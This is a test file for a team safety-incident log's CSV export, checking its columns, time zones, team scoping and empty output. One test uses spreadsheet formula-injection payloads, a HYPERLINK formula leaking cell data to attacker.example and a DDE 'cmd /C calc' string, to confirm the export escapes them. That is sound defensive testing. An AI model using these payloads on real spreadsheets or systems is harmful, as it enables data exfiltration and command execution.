import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { signInEveryRole, testApp } from '../../support/app';
import { makeBattery } from '../../support/batteries';
import { makeTeam, PASSWORD } from '../../support/factories';
import { editIncident, reportIncident } from '../../support/incidents';

// GET /api/incidents.csv (who may is in incidents.test.ts): the safety log as a spreadsheet.
const { app } = testApp();

const HEADER = [
  'Occurred (UTC)',
  'Occurred (local time)',
  'Time zone',
  'Location',
  'Kind',
  'Class',
  'Basis',
  'Treatments',
  'People involved',
  'What happened',
  'Immediate actions',
  'Follow-up actions',
  'Status',
  'Closing note',
  'Battery',
  'Reported by',
  'Reported at (UTC)',
];

async function ownTeam() {
  const own = await makeTeam();
  const as = await signInEveryRole(app, own.emails, PASSWORD);
  return { ...own, as };
}

/** The download's rows (header first), read by a real CSV parser. */
async function download(client: Awaited<ReturnType<typeof ownTeam>>['as']['safety'], query = '') {
  const answer = await client.get(`/api/incidents.csv${query}`);
  expect(answer.status, answer.text).toBe(200);
  expect(answer.text.startsWith('\uFEFF')).toBe(true);
  return { answer, rows: parse(answer.text, { bom: true }) as string[][] };
}

describe('the safety log as CSV', () => {
  it('is one row per incident in plain words, times in UTC and in the event’s zone, as an attachment named after the event', async () => {
    const own = await ownTeam();
    const battery = await makeBattery(own.as.battery, { label: '22-A' });
    const report = await reportIncident(own.as.crew, {
      occurredAt: '2026-03-07T14:32:10.000Z',
      kind: 'battery_or_chemical',
      description: 'Acid on a glove, then on a wrist, while lifting "22-A", the cracked one',
      involved: [
        { initials: 'JT', role: 'student' },
        { initials: 'AB', role: 'mentor' },
      ],
      treatments: ['wound_cleaning', 'eye_flush_or_swab'],
      immediateActions: 'Flushed with water for 15 minutes',
      batteryId: battery.id,
    });
    await editIncident(own.as.safety, report, {
      followUps: [
        { text: 'Acid spill kit by the charging table', ownerId: own.memberships.lead.id, dueOn: '2026-03-08', done: true },
        { text: 'Nitrile gloves in the battery box', ownerId: own.memberships.safety.id, dueOn: '2026-03-09' },
      ],
      status: 'closed',
      closingNote: 'Battery retired; gloves and spill kit in place',
    });

    const { answer, rows } = await download(own.as.safety);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe(`attachment; filename="incidents-factory-event-${own.event.teamNumber}.csv"`);
    expect(answer.headers['cache-control']).toBe('private, no-store');
    expect(answer.text).toContain('\r\n');
    expect(rows).toEqual([
      HEADER,
      [
        '2026-03-07T14:32:10.000Z',
        '2026-03-07 15:32',
        'Europe/Berlin',
        'Pit',
        'Battery acid or chemical',
        'First aid only',
        'Cleaning, flushing or soaking a surface wound; Something removed from the eye by flushing or a cotton swab',
        'Cleaning, flushing or soaking a surface wound; Something removed from the eye by flushing or a cotton swab',
        'JT (Student on the team); AB (Mentor)',
        'Acid on a glove, then on a wrist, while lifting "22-A", the cracked one',
        'Flushed with water for 15 minutes',
        'Acid spill kit by the charging table (owner: Factory lead; due 2026-03-08; done)\nNitrile gloves in the battery box (owner: Factory safety; due 2026-03-09; not done)',
        'Closed',
        'Battery retired; gloves and spill kit in place',
        '22-A',
        'Factory crew',
        report.createdAt,
      ],
    ]);
  });

  it('guards every cell a spreadsheet would run as a formula with a leading apostrophe', async () => {
    const own = await ownTeam();
    await reportIncident(own.as.crew, {
      description: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
      immediateActions: '+1 more cable taped down',
    });
    await reportIncident(own.as.crew, { description: '@SUM(1+1)*cmd|" /C calc"!A0', immediateActions: '-2 spare bolts' });
    await reportIncident(own.as.crew, { description: 'Fine = as it is', immediateActions: 'A - B' });
    const { rows } = await download(own.as.admin);
    const cells = rows.slice(1).map((row) => [row[9], row[10]]);
    expect(cells.sort()).toEqual(
      [
        ['\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "'+1 more cable taped down"],
        ['\'@SUM(1+1)*cmd|" /C calc"!A0', "'-2 spare bolts"],
        // Only a first character makes a formula.
        ['Fine = as it is', 'A - B'],
      ].sort(),
    );
  });

  it("holds only this team's incidents: the current event's by default, every one with eventId=all", async () => {
    const own = await ownTeam();
    const other = await ownTeam();
    await reportIncident(other.as.crew, { description: 'Their incident' });
    await reportIncident(own.as.crew, { description: 'At the event' });
    await reportIncident(own.as.crew, { description: 'On the way there', eventId: null, location: 'travel' });
    const current = await download(own.as.safety);
    expect(current.rows.slice(1).map((row) => row[9])).toEqual(['At the event']);
    const all = await download(own.as.safety, '?eventId=all');
    expect(all.answer.headers['content-disposition']).toBe('attachment; filename="incidents-all.csv"');
    expect(all.rows.slice(1).map((row) => [row[9], row[2]]).sort()).toEqual([
      ['At the event', 'Europe/Berlin'],
      ['On the way there', 'UTC'],
    ]);
  });

  it('is a header alone when there is nothing to list', async () => {
    const own = await ownTeam();
    expect((await download(own.as.safety)).rows).toEqual([HEADER]);
  });
});
